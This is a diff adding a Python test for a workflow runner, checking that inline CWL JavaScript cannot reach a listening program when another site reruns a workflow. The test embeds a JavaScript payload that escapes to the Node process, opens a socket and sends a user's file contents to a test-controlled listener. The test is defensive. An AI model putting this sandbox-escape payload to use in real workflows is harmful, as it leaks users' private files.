@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
+import socket
 import threading
 from pathlib import Path
 from typing import Any
@@ -288,9 +290,42 @@ def test_javascript_has_no_files_and_no_environment(
     with pytest.raises(InputError, match="step make: "):
         other_site.rerun(sent)
     assert victim.lost_to(other_site.top) == []
-    text = PLANNED.replace('"TOOL"', json.dumps(ESCAPE.partition(", host")[0] + "]}; }")).replace("VALUE", "$(1)")
-    found = other_site.rerun(victim.receive(site.archive(site.submit(text)), tmp_path / "more"))
-    assert json.loads(found.layout.output_object.read_text())["o"] == [["PATH"]]
+
+
+CALLING = """${
+  var net = globalThis.constructor.constructor("return this")().process.getBuiltinModule("net");
+  net.connect("SOCKET").on("error", function() {}).write("what is in " + inputs.f.contents);
+  return {o: 1};
+}"""
+
+
+def heard(listening: socket.socket) -> bytes:
+    """Return what the last of those who called said."""
+    found = b""
+    with contextlib.suppress(TimeoutError):
+        while True:
+            calling, _ = listening.accept()
+            with calling:
+                found = calling.recv(100)
+    return found
+
+
+def test_javascript_reaches_no_program_that_listens(site: Local, other_site: Local, tmp_path: Path) -> None:
+    """A user's D-Bus starts what it is told to."""
+    data = site.write("data/a.txt", "the user's file\n")
+    with socket.socket(socket.AF_UNIX) as listening:
+        listening.bind(str(tmp_path / "bus"))
+        listening.listen()
+        listening.settimeout(2)
+        tool = "class: ExpressionTool\ninputs: {f: {type: File, loadContents: true}}\noutputs: {o: Any}\n"
+        code = json.dumps(CALLING.replace("SOCKET", str(tmp_path / "bus")))
+        head = "cwlVersion: v1.2\nrequirements: {InlineJavascriptRequirement: {}}\n"
+        done = site.submit(f"{head}{tool}expression: {code}\n", {"f": {"class": "File", "path": str(data)}})
+        assert heard(listening) == b"what is in the user's file\n"
+        shutil.copy(site.archive(done), tmp_path / "sent.tgz")
+        with pytest.raises(InputError, match="step w: "):
+            other_site.rerun(tmp_path / "sent.tgz")
+        assert heard(listening) == b""
 
 
 def test_javascript_that_cannot_be_confined_does_not_run(
